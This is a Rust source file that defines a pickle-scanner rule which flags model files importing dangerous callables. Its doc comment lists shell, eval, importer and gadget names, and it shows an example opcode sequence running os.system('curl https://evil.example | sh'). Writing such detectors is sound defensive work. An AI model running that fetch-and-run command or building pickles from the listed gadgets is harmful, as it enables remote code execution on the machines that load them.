//! ## What it does
//! Flags a pickle that imports a callable or module known to be dangerous:
//! process and shell execution (`os.system`, `subprocess.Popen`, `pty.spawn`),
//! Python code execution (`builtins.eval`/`exec`, `runpy`, `code`, `timeit`),
//! import machinery and name resolvers (`builtins.__import__`, `getattr`,
//! `importlib`, `pkgutil.resolve_name`, `operator.attrgetter`), code objects
//! (`marshal`, `types.CodeType`), file access, network access, debuggers and
//! profilers, package installers (`pip`, `ensurepip`), nested deserializers
//! (`pickle.loads`, `torch.load`, `joblib.load`, `numpy.load`) and known
//! third-party gadgets (`torch.utils.collect_env.run`, `numpy.testing` runners).
//!
//! Names are judged as the unpickler resolves them: after Python 2 remapping
//! (`commands.Popen` is `subprocess.Popen`), through aliases (`posix`, `nt`),
//! submodules (`asyncio.unix_events...`), re-exports (`os.path.os`) and names
//! built at load time (`getattr(__import__('os'), 'system')`, extension codes).
//!
//! ## Why is this bad?
//! Loading a pickle calls whatever it imports. A model file that imports any of
//! these can run arbitrary code on the machine that loads it; there is no
//! legitimate reason for a model's weights to do so.
//!
//! ## Example
//! ```text
//! 0: \x80 PROTO 2
//! 2: c    GLOBAL 'os system'
//! ...     REDUCE                 -> os.system('curl https://evil.example | sh')
//! ```
//!
//! ## References
//! - Python `pickle` documentation, "Restricting Globals"
//! - CVE-2025-1716 (`pip.main`), CVE-2025-10157 (submodules of denylisted modules)
use crate::finding::Severity;
use crate::rules::Rule;

pub static RULE: Rule = Rule {
    code: "PKL001",
    name: "dangerous-import",
    severity: Severity::Critical,
    summary: "loading the file imports a callable that can run code, touch files or reach the network",
    path: "pickle/dangerous_import",
};
